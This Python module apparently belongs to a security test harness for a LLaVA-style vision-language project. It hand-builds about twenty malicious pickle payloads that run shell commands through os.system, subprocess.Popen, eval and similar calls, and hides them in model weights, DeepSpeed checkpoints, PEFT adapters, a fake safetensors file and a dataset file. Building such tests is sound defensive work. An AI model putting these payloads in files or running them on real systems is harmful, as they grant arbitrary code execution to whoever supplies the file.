"""Pickles with code, in every way in which the format can call something, in every file that is one."""

from __future__ import annotations

import io
import json
import pickle
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import torch
import yaml

from benchmarks import TOY, TOY_PARTS
from benchmarks.attack.desk import Attack, Desk, chat, check, load, merge, write_image

KIND = "pickles"
Payload = Callable[[str], bytes]  # shell command -> pickle


def _text(value: str) -> bytes:
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def _call(module: str, name: str, argument: str) -> bytes:
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + _text(argument) + b"\x85R."


def _python(shell: str) -> str:
    return f"__import__('os').system({shell!r})"


def _built(shell: str) -> bytes:
    """BUILD on a dictionary's class with __setstate__ replaced by os.system."""
    setter = b"(dX\x0c\x00\x00\x00__setstate__cos\nsystem\nsb"
    return b"\x80\x02ctorch.nn\nModule\n)\x81}" + setter + _text(shell) + b"b."


PAYLOADS: dict[str, Payload] = {
    "REDUCE": lambda shell: _call("os", "system", shell),
    "REDUCE of posix": lambda shell: _call("posix", "system", shell),
    "eval": lambda shell: _call("builtins", "eval", _python(shell)),
    "exec of Python 2's name": lambda shell: _call("__builtin__", "exec", _python(shell)),
    "INST": lambda shell: b"(" + _text(shell) + b"ios\nsystem\n.",
    "OBJ": lambda shell: b"(cos\nsystem\n" + _text(shell) + b"o.",
    "NEWOBJ": lambda shell: b"\x80\x02csubprocess\nPopen\n(" + _text(f"touch {shell}") + b"t\x81.",
    "NEWOBJ_EX": lambda shell: b"\x80\x04csubprocess\nPopen\n("
    + _text(shell) + b"t}" + _text("shell") + b"\x88s\x92.",
    "STACK_GLOBAL": lambda shell: b"\x80\x04" + _text("os") + _text("system") + b"\x93" + _text(shell) + b"\x85R.",
    "dotted name": lambda shell: b"\x80\x04" + _text("torch") + _text("os.system") + b"\x93"
    + _text(shell) + b"\x85R.",
    "getattr": lambda shell: b"\x80\x02cbuiltins\ngetattr\ncos\n_wrap_close\n" + _text("__init__") + b"\x86R"
    + b"0" + _call("os", "system", shell)[2:],
    "BUILD": _built,
    "persistent id": lambda shell: b"\x80\x02" + _text(shell) + b"Q.",
    "persistent id as text": lambda shell: b"Pos.system\n.",
    "extension registry": lambda shell: b"\x80\x02\x82\x01" + _text(shell) + b"\x85R.",
    "importlib": lambda shell: _call("importlib", "import_module", "evil"),
    "runpy": lambda shell: _call("runpy", "run_path", "evil.py"),
    "numpy": lambda shell: _call("numpy.testing._private.utils", "runstring", _python(shell)),
    "code that hides in a dictionary": lambda shell: b"\x80\x02}" + _text("weight")
    + _call("os", "system", shell)[2:-1]
    + b"s.",
    "second pickle": lambda shell: pickle.dumps({"a": 1}, 2) + _call("os", "system", shell),
}  # fmt: skip


def zipped(payload: bytes) -> bytes:
    """As torch.save writes since 1.6: an archive with data.pkl."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return file.getvalue()


def legacy(payload: bytes) -> bytes:
    """As torch.save wrote before 1.6: a magic number, a version, the sizes, the content."""
    head = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join(head) + payload


def tarred(payload: bytes) -> bytes:
    """As torch.save wrote in 0.1: a tar archive."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            archive.addfile(info, io.BytesIO(payload))
    return file.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "bare": lambda payload: payload, "zip": zipped, "legacy": legacy, "tar": tarred,
}  # fmt: skip


def in_llava(content: bytes, desk: Desk) -> int:
    """pytorch_model.bin of an original LLaVA."""
    folder = desk.copy_llava()
    desk.evil_module(desk.here)
    (folder / "pytorch_model.bin").write_bytes(content)
    return load(folder)


def in_sam(content: bytes, desk: Desk) -> int:
    """sam_vit_h.pth."""
    (desk.here / "sam_vit_h.pth").write_bytes(content)
    return load(TOY / "llava", sam="sam_vit_h.pth")


def in_weight(content: bytes, desk: Desk) -> int:
    """pytorch_model.bin of zero_to_fp32.py, to be merged."""
    (desk.here / "weights.bin").write_bytes(content)
    return merge("weights.bin", f"--version={TOY}/llava", *TOY_PARTS)


def in_deepspeed(content: bytes, desk: Desk, name: str = "mp_rank_00_model_states.pt") -> int:
    """A DeepSpeed checkpoint, to be merged."""
    tag = desk.here / "ckpt_model" / "global_step7"
    tag.mkdir(parents=True)
    (tag.parent / "latest").write_text("global_step7")
    torch.save({"module": {}, "ds_version": "0.19.8"}, tag / "mp_rank_00_model_states.pt")
    (tag / name).write_bytes(content)
    settings = tag.parent / "lasagna"
    settings.mkdir()
    run = {"version": str(TOY / "llava"), "vision_tower": str(TOY / "clip"),
           "vision_pretrained": str(TOY / "sam2"), "lora_r": 8, "lora_alpha": 16}  # fmt: skip
    (settings / "run.yaml").write_text(yaml.safe_dump(run))
    (settings / "config.json").write_text("{}")
    return merge("ckpt_model")


def in_adapter(content: bytes, desk: Desk, name: str = "adapter_model.bin") -> int:
    """A PEFT folder."""
    folder = desk.here / "adapter"
    folder.mkdir()
    config = {"peft_type": "LORA", "base_model_name_or_path": str(TOY / "llava"), "r": 8, "lora_alpha": 16}
    (folder / "adapter_config.json").write_text(json.dumps(config))
    torch.save({"base_model.model.x.lora_A.weight": torch.zeros(8, 8)}, folder / "adapter_model.bin")
    (folder / name).write_bytes(content)
    return merge("adapter", f"--version={TOY}/llava", *TOY_PARTS)


def in_safetensors(content: bytes, desk: Desk) -> int:
    """A pickle under the name of safetensors."""
    folder = desk.copy_model()
    (folder / "model.safetensors").unlink()
    (folder / "model.safetensors").write_bytes(content)
    return chat(folder)


def in_refs(content: bytes, desk: Desk) -> int:
    """refs(unc).p of a referring data set."""
    refer_data(desk.here)
    (desk.here / "refer_seg/refcoco/refs(unc).p").write_bytes(content)
    return check("refer_seg", "--refer_seg_data=refcoco")


def refer_data(folder: Path) -> None:
    """refCOCO of one image, without its references."""
    from benchmarks.attack.desk import coco

    root = folder / "refer_seg"
    (root / "refcoco").mkdir(parents=True)
    (root / "images/mscoco/images/train2014").mkdir(parents=True)
    write_image(root / "images/mscoco/images/train2014/a.png")
    (root / "refcoco/instances.json").write_text(json.dumps(coco(["dog"], ["a.png"])))


PLACES: dict[str, Callable[[bytes, Desk], int]] = {
    "original LLaVA .bin": in_llava,
    "SAM .pth": in_sam,
    "trained weights .bin": in_weight,
    "DeepSpeed model states": in_deepspeed,
    "DeepSpeed optimizer states": partial(in_deepspeed, name="zero_pp_rank_0_mp_rank_00_optim_states.pt"),
    "PEFT .bin": in_adapter,
    "LLaVA's non_lora_trainables.bin": partial(in_adapter, name="non_lora_trainables.bin"),
    "safetensors": in_safetensors,
}


def _run(
    place: Callable[[bytes, Desk], int], wrap: Callable[[bytes], bytes], payload: Payload, desk: Desk
) -> int:
    desk.evil_module(desk.here)
    return place(wrap(payload(desk.shell)), desk)


def attacks() -> Iterator[Attack]:
    """Every payload in refs.p and in weights (zip and legacy); the plainest payload in every place and container."""
    for name, payload in PAYLOADS.items():
        quick = name in ("REDUCE", "getattr")
        yield Attack(KIND, f"refs(unc).p, {name}", partial(_run, in_refs, CONTAINERS["bare"], payload), quick)
        for container in ("zip", "legacy"):
            yield Attack(
                KIND, f"trained weights, {container}, {name}",
                partial(_run, in_weight, CONTAINERS[container], payload), quick and container == "zip",
            )  # fmt: skip
        yield Attack(
            KIND, f"DeepSpeed states, {name}", partial(_run, in_deepspeed, zipped, payload), name == "getattr"
        )
    for place, write in PLACES.items():
        for container, wrap in CONTAINERS.items():
            yield Attack(KIND, f"{place}, {container}", partial(_run, write, wrap, PAYLOADS["REDUCE"]))
